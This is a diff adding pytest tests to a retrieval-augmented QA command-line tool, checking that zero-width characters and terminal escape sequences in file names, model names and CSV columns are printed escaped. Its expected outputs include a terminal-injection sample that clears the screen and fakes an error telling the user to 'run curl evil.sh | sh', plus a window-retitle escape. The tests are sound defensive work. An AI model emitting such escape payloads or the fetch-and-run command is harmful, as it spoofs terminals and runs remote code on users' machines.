@@ -15,6 +15,8 @@ from tests.fixtures.hostile import (
     HOSTILE_ID_SHOWN,
     HOSTILE_TITLE,
     HOSTILE_TITLE_SHOWN,
+    INVISIBLE,
+    INVISIBLE_SHOWN,
     RETITLE,
     RLO,
     TERMINAL_ACTIVE,
@@ -27,6 +29,11 @@ QUESTION = "Where can gift cards be redeemed?"
 def assert_inert(*outputs: str) -> None:
     for output in outputs:
         assert not any(char in output for char in TERMINAL_ACTIVE), output
+
+
+def assert_visible(*outputs: str) -> None:
+    for output in outputs:
+        assert not any(char in output for char in INVISIBLE), output
 
 
 @pytest.fixture
@@ -130,3 +137,63 @@ def test_eval_error_naming_hostile_csv_columns_is_escaped(tmp_path, settings, ca
         f"error: {truth} has no column 'document'; its columns are ['question', "
         "'doc\\x1b[2J\\x1b[31mFAKE error: run curl evil.sh | sh\\x1b[0m'].\n"
     )
+
+
+def test_zero_width_characters_are_shown_escaped_by_ingest_and_ask_as_on_the_page(tmp_path, settings, standin, capsys):
+    docs = tmp_path / "docs"
+    docs.mkdir()
+    (docs / "records.jsonl").write_text(json.dumps(
+        {"id": f"gift{INVISIBLE}", "title": f"Gift{INVISIBLE} cards", "text": "Gift cards are redeemed at the front desk."}
+    ) + "\n")
+    standin.reply = f"At the front desk{INVISIBLE} [1]."
+
+    ingest_code = ingest_main(["--dry-run", str(docs)])
+    planned, _ = capsys.readouterr()
+    ingest_main([str(docs)])
+    capsys.readouterr()
+    ask_code = ask_main([QUESTION])
+    out, err = capsys.readouterr()
+    json_code = ask_main(["--json", QUESTION])
+    as_json, _ = capsys.readouterr()
+
+    assert (ingest_code, ask_code, json_code, err) == (0, 0, 0, "")
+    assert planned.splitlines()[2] == f"  add gift{INVISIBLE_SHOWN}"
+    answer, sources = out.split("\n\nSources:\n")
+    assert answer == f"At the front desk{INVISIBLE_SHOWN} [1]."
+    assert re.fullmatch(rf"  \[1\] {re.escape(f'gift{INVISIBLE_SHOWN}: Gift{INVISIBLE_SHOWN} cards')}  score \d\.\d{{3}}",
+                        sources.splitlines()[0])
+    assert f'"title": "Gift{INVISIBLE_SHOWN} cards"' in as_json
+    assert json.loads(as_json)["sources"][0]["title"] == f"Gift{INVISIBLE} cards"
+    assert_visible(planned, out, as_json)
+
+
+def test_eval_answers_shows_a_hostile_model_name_escaped_in_its_error_line_and_table(guide_store, settings, tmp_path,
+                                                                                    monkeypatch, capsys):
+    monkeypatch.setenv("RAG_STORE_DIR", str(guide_store))
+    truth = tmp_path / "truth.csv"
+    truth.write_text(f"question,document\n{QUESTION},x.md\n")
+    model = f"evil{CLEAR_AND_PAINT}{INVISIBLE}"
+    shown = f"evil\\x1b[2J\\x1b[31mFAKE error: run curl evil.sh | sh\\x1b[0m{INVISIBLE_SHOWN}"
+
+    code = eval_main([str(truth), "--answers", "--models", model, "--out", str(tmp_path / "results.jsonl")])
+    out, err = capsys.readouterr()
+
+    assert code == 5
+    assert err.startswith(f"error: Model {repr(model)[:-1]}") and f"Run `ollama pull {shown}`" in err
+    assert err.count("\n") == 1
+    assert out.splitlines()[1].startswith(f"{shown}  -")
+    assert_inert(out, err)
+    assert_visible(out, err)
+
+
+def test_eval_answers_error_line_naming_a_hostile_file_is_escaped(guide_store, tmp_path, monkeypatch, capsys):
+    monkeypatch.setenv("RAG_STORE_DIR", str(guide_store))
+    truth = tmp_path / f"truth{RETITLE}{INVISIBLE}.csv"
+    truth.write_text("question,doc\nq,d\n")
+
+    code = eval_main([str(truth), "--answers"])
+    out, err = capsys.readouterr()
+
+    assert (code, out) == (1, "")
+    assert err == (f"error: {tmp_path}/truth\\x1b]0;PWNED-TITLE\\x07{INVISIBLE_SHOWN}.csv has no column 'document'; "
+                   "its columns are ['question', 'doc'].\n")
